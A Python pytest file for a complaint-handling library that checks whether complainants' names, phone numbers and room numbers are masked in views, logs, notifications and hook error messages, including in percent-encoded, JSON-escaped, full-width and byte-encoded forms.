def test_a_clock_typed_with_personal_data_before_it_was_checked_is_masked_in_views() -> None:
    """A history written before ``decide`` checked an escalation's clock may hold a
    name and phone there; a masked view shows pack-code names only (s27N F06)."""
    from complaintcore import evolve
    from complaintcore.desk import masked_record
    from complaintcore.serialization import complaint_to_dict

    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
    typed = _typed_escalation(f"reply,{NAME}{PHONE}")
    swept = Escalated(
        at=NOW,
        actor="system",
        from_rung="complaint_handler",
        to_rung="department_head",
        trigger=Trigger.DEADLINE_MISSED,
        clock="reply,promise",
    )
    masked = masked_record(complaint_to_dict(evolve(c, (typed, swept))))
    clocks = [e["clock"] for e in masked["events"] if e["type"] == "escalated"]
    assert clocks == ["reply,王*************", "reply,promise"]


@pytest.mark.procedure("PRV-1")
def test_a_lowercase_name_typed_as_an_old_clock_is_masked_in_the_desks_views() -> None:
    """A name typed in lowercase is shaped like a pack code; the desk's views check
    it against the pack's clocks and duties and mask anything else (s27N F06)."""
    from complaintcore.desk import masked_record
    from complaintcore.serialization import complaint_to_dict

    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
    typed = _typed_escalation("promise,wangxiaoming")
    # written as a desk before this release would have: the store takes it as given
    desk.store.append(c.id, desk.get(c.id).version, [typed], desk.store.row(c.id))
    stored = desk.get(c.id)
    assert [e.clock for e in stored.events if isinstance(e, Escalated)] == ["promise,wangxiaoming"]
    viewed = desk.view(c.id, "SR-202", now=NOW)  # an engineer: masked
    shown = masked_record(complaint_to_dict(stored), desk.pack)
    for data in (viewed, shown):
        clocks = [e["clock"] for e in data["events"] if e["type"] == "escalated"]
        assert clocks == ["promise,w***********"]


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        (f"I-{PHONE} {NAME}", "I" + "*" * 16),  # 17 characters typed: the first kept
        (f"I-C-20251114-abcd {PHONE}", "I" + "*" * 28),  # a desk-like id, then a phone
        (f"I-C-20251114-2a3b1c0f3e9d8a7b {PHONE}", "I" + "*" * 40),  # a desk-made one
    ],
    ids=["phone and name", "desk-like id then phone", "desk-made id then phone"],
)
def test_an_issue_id_typed_with_personal_data_is_masked_in_views(typed: str, shown: str) -> None:
    """An issue id typed by hand with the owner's phone and name behind it, as
    ``Group`` took one before it had to be ``I-`` and a stored complaint's id
    (review s35A F05), is masked in what ``show`` and exports print, while an issue
    the desk names (``I-`` + the complaint's id) reads as stored (s31G F02)."""
    from complaintcore import Grouped
    from complaintcore.core.errors import InvalidInputError
    from complaintcore.core.workflow import Group, evolve
    from complaintcore.desk import masked_record
    from complaintcore.serialization import complaint_to_dict

    for issue in (typed, None):
        desk = make_desk()
        c = desk.receive(_intake(receiver="SR-103"), now=NOW)
        named = issue or f"I-{c.id}"  # None: as the desk names an issue
        group = Group(actor="SR-201", issue=named, members=(c.id,), complainants=1)
        if issue:  # refused now; a history written before holds it
            with pytest.raises(InvalidInputError) as info:
                desk.act(c.id, group, now=NOW)
            assert info.value.path == "issue"
            assert PHONE not in str(info.value)
            c = evolve(c, (Grouped(at=NOW, actor="SR-201", issue=named, members=(c.id,),
                                   complainants=1),))  # fmt: skip
        else:
            c = desk.act(c.id, group, now=NOW)
        record = masked_record(complaint_to_dict(c), desk.pack)
        grouped = [e["issue"] for e in record["events"] if e["type"] == "grouped"]
        assert grouped == [shown if issue else named]
        text = json.dumps(record, ensure_ascii=False)
        assert PHONE not in text
        assert NAME not in text


@pytest.mark.procedure("PRV-1")
def test_a_name_and_room_posted_with_spaces_round_them_are_masked_in_free_text(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A web form's fields often carry a trailing or leading space; stored so through
    ``intake_from_dict`` and ``receive``, the name and room are still masked where
    they occur in the summary: the masked view, the log channel and a message to
    someone who need not see personal data (review s32B F02)."""
    from complaintcore import intake_from_dict
    from complaintcore.adapters.notify import LogNotifier

    caplog.set_level(logging.INFO, logger="cc.padded")
    desk = make_desk(notifiers=[LogNotifier("cc.padded")])
    submission = {
        "complainant": {
            "name": "王小明 ",
            "phone": PHONE,
            "room": " 3-1202 ",
            "building": "3",
            "site": "sunrise",
        },
        "channel": "web",
        "received_at": "2025-11-14T09:00+08:00",
        "receiver": "SR-103",
        "summary": "业主王小明反映：3-1202卫生间顶棚漏水，楼上不开门",
        "site": "sunrise",
    }
    c = desk.receive(intake_from_dict(submission), now=NOW)
    assert desk.get(c.id).intake.complainant.name == "王小明 "  # stored as posted
    desk.deliver(NOW)
    shown = "业主王**反映：****02卫生间顶棚漏水，楼上不开门"
    assert desk.view(c.id, "SR-202", now=NOW)["intake"]["summary"] == shown  # an engineer
    logged = " ".join(r.getMessage() for r in caplog.records if r.name == "cc.padded")
    assert f"摘要：{shown}" in logged
    note = desk.messages.render(
        c, "assigned", desk.directory.get("SR-202"), desk.pack, at=NOW, discriminator="x"
    )
    assert f"摘要：{shown}" in note.body


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize(
    ("room", "summary", "shown"),
    [
        ("3栋1202室", "３栋１２０２室卫生间漏水", "*****２室卫生间漏水"),
        ("3-1202", "3－1202卫生间漏水", "****02卫生间漏水"),
        ("３栋１２０２室", "3栋1202室卫生间漏水", "*****2室卫生间漏水"),
    ],
)
def test_a_room_typed_in_the_other_width_is_masked_in_the_view(
    room: str, summary: str, shown: str
) -> None:
    """A Chinese IME in full-width mode types ``３栋１２０２室`` and ``3－1202``: the
    room the masked view hides in its field is hidden in the summary beside it too
    (review s32B F03)."""

    desk = make_desk()
    c = desk.receive(
        _owner_says(NAME, room, summary),
        now=NOW,
    )
    assert desk.view(c.id, "SR-202", now=NOW)["intake"]["summary"] == shown  # an engineer


# --------------------------------------------------------------------------- host hooks


@pytest.mark.procedure("PRV-1")
def test_a_host_hooks_exception_is_logged_with_the_complainants_data_masked(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A classifier service's HTTP error quotes the URL it was called with (the
    summary in it, as written or percent-encoded), a CRM listener's KeyError the
    owner it did not find, an exception the one it was raised from: the desk logs
    the type, the message and the traceback, with the name, phone and room masked
    as a channel's error is, and not the exception itself (a handler or an error
    tracker would print it as raised) (review s32B F01)."""
    from urllib.parse import quote

    from complaintcore import Complaint, hookimpl

    name, room = "Margaret Thompson", "Flat 12B"
    summary = f"{name} of {room} ({PHONE}): water leaking through the ceiling"

    class Host:
        @hookimpl
        def complaintcore_classify(self, complaint: Complaint) -> None:
            sent = complaint.intake.summary
            try:
                raise ValueError(f"bad text={quote(sent)}")
            except ValueError as cause:
                raise RuntimeError(
                    f"400 Client Error for url: https://nlp.example/?text={sent}"
                ) from cause

        @hookimpl
        def complaintcore_on_events(self, complaint: Complaint) -> None:
            p = complaint.intake.complainant
            raise KeyError(f"CRM has no owner {p.name} / {p.phone} / {p.room}")

    desk = _hooked_desk(Host())
    caplog.set_level(logging.DEBUG)
    c = desk.receive(
        _owner_says(name, room, summary),
        now=NOW,
    )
    assert desk.get(c.id).state.category  # the pack's keywords classified it
    failed = [r for r in caplog.records if r.name == "complaintcore.desk" and "failed" in r.msg]
    assert [r.levelname for r in failed] == ["ERROR", "ERROR"]
    assert all(r.exc_info is None for r in failed)  # no unmasked exception to re-print
    classify, listener = (r.getMessage() for r in failed)
    masked = "M**************** of F******* (*********78): water leaking through the ceiling"
    assert classify.startswith(f"complaintcore_classify failed for {c.id}; the pack's keywords")
    assert "\nTraceback (most recent call last):\n" in classify
    assert classify.endswith(
        f"RuntimeError: 400 Client Error for url: https://nlp.example/?text={masked}"
    )
    # the cause, percent-encoded: Margaret%20Thompson is M and 18 stars, Flat%2012B F
    # and 9; the phone is read with the 28 of %28 before it, 13 digits: 11 stars, 78
    cause = "ValueError: bad text=M******************%20of%20F*********%20%***********78%29"
    assert f"\n{cause}%3A%20water%20leaking" in classify
    assert listener.startswith(
        f"complaintcore_on_events failed for {c.id} in plugin Host\nTraceback"
    )
    assert listener.endswith(
        "KeyError: 'CRM has no owner M**************** / *********78 / F*******'"
    )
    for secret in (name, PHONE, room, quote(name), quote(room), "Thompson", "12B"):
        assert secret not in caplog.text, secret


@pytest.mark.procedure("PRV-1")
def test_a_hook_error_quoting_a_query_string_or_json_body_is_logged_masked(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """An HTTP client's error quotes the query string ``urlencode`` built (a space as
    ``+``) and the JSON body ``json.dumps`` wrote (a Chinese character as ``\\uXXXX``):
    both forms of the complainant's name are masked as the name itself is, first
    character kept (review s32G F04: ``Margaret+Thompson`` and
    ``\\u738b\\u5c0f\\u660e`` were not tested).  By hand: ``Margaret+Thompson`` is 17
    characters, M and 16 stars; 王小明 percent-encoded is 27, % and 26 stars; as
    JSON escapes 18, a backslash and 17 stars."""
    from urllib.parse import urlencode

    from complaintcore import Complaint, hookimpl

    class Host:
        @hookimpl
        def complaintcore_classify(self, complaint: Complaint) -> None:
            name = complaint.intake.complainant.name
            query, body = urlencode({"name": name}), json.dumps({"name": name})
            raise RuntimeError(f"400 for https://nlp.example/?{query} body={body}")

    desk = _hooked_desk(Host())
    caplog.set_level(logging.DEBUG)
    for name in ("Margaret Thompson", NAME):
        desk.receive(
            _owner_says(name, ROOM, "楼上漏水，天花板渗水"),
            now=NOW,
        )
    failed = [
        r.getMessage().splitlines()[-1]
        for r in caplog.records
        if r.name == "complaintcore.desk" and "classify failed" in r.msg
    ]
    latin, url, escaped = "M" + "*" * 16, "%" + "*" * 26, "\\" + "*" * 17
    assert failed == [
        f'RuntimeError: 400 for https://nlp.example/?name={latin} body={{"name": "{latin}"}}',
        f'RuntimeError: 400 for https://nlp.example/?name={url} body={{"name": "{escaped}"}}',
    ]
    for secret in ("Margaret+Thompson", "Thompson", "\\u738b\\u5c0f\\u660e", "\\u738b", NAME):
        assert secret not in caplog.text, secret


@pytest.mark.procedure("PRV-1")
def test_a_hook_error_quoting_the_name_as_bytes_is_logged_masked(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """An HTTP client's error quotes the request body as ``bytes``: 王小明 in UTF-8
    (``b'\\xe7\\x8e\\x8b\\xe5\\xb0\\x8f\\xe6\\x98\\x8e'``) or in GB18030, the
    command line's Chinese encoding (``b'\\xcd\\xf5\\xd0\\xa1\\xc3\\xf7'``), was
    left readable (review s45D F07; PRV-1).  By hand: the UTF-8 form is 36
    characters, a backslash and 35 stars; the GB18030 form 24, a backslash and 23."""
    from complaintcore import Complaint, hookimpl

    class Host:
        @hookimpl
        def complaintcore_classify(self, complaint: Complaint) -> None:
            name = complaint.intake.complainant.name
            raise RuntimeError(f"400 body={name.encode()} gbk={name.encode('gb18030')}")

        @hookimpl
        def complaintcore_on_events(self, complaint: Complaint) -> None:
            raise KeyError(complaint.intake.complainant.name.encode("gb18030"))

    desk = _hooked_desk(Host())
    caplog.set_level(logging.DEBUG)
    desk.receive(_owner_says(NAME, ROOM, "楼上漏水，天花板渗水"), now=NOW)
    classify, listener = (
        r.getMessage().splitlines()[-1]
        for r in caplog.records
        if r.name == "complaintcore.desk" and "failed" in r.msg
    )
    utf8, gb = "\\" + "*" * 35, "\\" + "*" * 23
    assert classify == f"RuntimeError: 400 body=b'{utf8}' gbk=b'{gb}'"
    assert listener == f"KeyError: b'{gb}'"
    for secret in ("\\xe7\\x8e\\x8b", "\\xcd\\xf5\\xd0\\xa1", NAME):
        assert secret not in caplog.text, secret


@pytest.mark.procedure("PRV-1")
def test_a_room_with_a_slash_quoted_into_a_url_either_way_is_logged_masked(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A Glasgow tenement flat is written ``Flat 2/1`` (second floor, first door).  A
    CRM's error quotes the URL it built: ``quote(room)`` keeps the slash
    (``Flat%202/1``, Python's default ``safe="/"``: a path), ``quote(room, safe="")``
    encodes it (``Flat%202%2F1``: a query).  Both are the room and both are masked,
    first character kept: F and 9 stars, F and 11 (review s32G M04; the first was
    logged as it was)."""
    from urllib.parse import quote

    from complaintcore import Complaint, hookimpl

    room = "Flat 2/1"

    class Host:
        @hookimpl
        def complaintcore_on_events(self, complaint: Complaint) -> None:
            flat = complaint.intake.complainant.room
            path, query = quote(flat), quote(flat, safe="")
            raise KeyError(f"CRM: no /rooms/{path} (searched ?room={query})")

    desk = _hooked_desk(Host())
    caplog.set_level(logging.DEBUG)
    desk.receive(
        _owner_says("Margaret Thompson", room, "water leaking through the ceiling"),
        now=NOW,
    )
    [failed] = [
        r.getMessage().splitlines()[-1]
        for r in caplog.records
        if r.name == "complaintcore.desk" and "on_events failed" in r.msg
    ]
    path, query = "F" + "*" * 9, "F" + "*" * 11
    assert failed == f"KeyError: 'CRM: no /rooms/{path} (searched ?room={query})'"
    for secret in ("Flat%202/1", "Flat%202%2F1", "%202"):
        assert secret not in caplog.text, secret


@pytest.mark.procedure("PRV-1")
def test_a_name_posted_with_a_space_round_it_is_masked_as_a_client_quotes_it_trimmed(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A web form posted ``"Margaret Thompson "``, stored so; a CRM client trims it
    before it quotes it into a URL (``Margaret%20Thompson``, 19 characters): masked
    as M and 18 stars, as the trimmed name is (review s32G M06)."""
    from urllib.parse import quote

    from complaintcore import Complaint, hookimpl

    class Host:
        @hookimpl
        def complaintcore_on_events(self, complaint: Complaint) -> None:
            name = complaint.intake.complainant.name.strip()
            raise KeyError(f"CRM: no /owners/{quote(name)}")

    desk = _hooked_desk(Host())
    caplog.set_level(logging.DEBUG)
    c = desk.receive(
        _owner_says("Margaret Thompson ", ROOM, "water leaking through the ceiling", channel="web"),
        now=NOW,
    )
    assert c.intake.complainant.name == "Margaret Thompson "  # stored as posted
    [failed] = [
        r.getMessage().splitlines()[-1]
        for r in caplog.records
        if r.name == "complaintcore.desk" and "on_events failed" in r.msg
    ]
    assert failed == "KeyError: 'CRM: no /owners/M" + "*" * 18 + "'"
    assert "Margaret%20Thompson" not in caplog.text


def _hooked_desk(host: object) -> Desk:
    """A memory desk whose only plugin is ``host`` (a host's hooks that raise)."""
    from complaintcore.desk.plugins import make_plugin_manager

    plain = make_desk()
    return Desk(
        pack=plain.pack,
        store=plain.store,
        directory=plain.directory,
        calendar=plain.calendar,
        notifiers=[],
        plugin_manager=make_plugin_manager([host], load_entry_points=False),
    )


def _owner_says(name: str, room: str, summary: str, channel: str = "phone") -> Intake:
    """An owner of building 3 at sunrise, received by SR-103 at ``NOW``."""
    return Intake(
        complainant=Complainant(name, PHONE, room, "3", "sunrise"),
        channel=channel,
        received_at=NOW,
        receiver="SR-103",
        site="sunrise",
        summary=summary,
    )


def test_the_stored_forms_migrate_copies_show_no_personal_data_in_their_repr(
    tmp_path: Path,
) -> None:
    # review s41F: a StoredItem's repr printed the message with the owner's name and phone
    from complaintcore.adapters.sqlite_store import SqliteStore

    with SqliteStore(tmp_path / "desk.sqlite3") as store:
        desk = make_desk(store=store, notifiers=[RecordingNotifier()])
        desk.receive(_intake(receiver="SR-103", received_at=NOW), now=NOW)
        histories = list(store.export_histories())
        items = list(store.export_outbox())
    assert histories
    assert items
    shown = repr(histories) + repr(items)
    for value in (NAME, PHONE, ROOM):
        assert value not in shown
    assert histories[0].complaint_id in shown  # what is not personal still reads
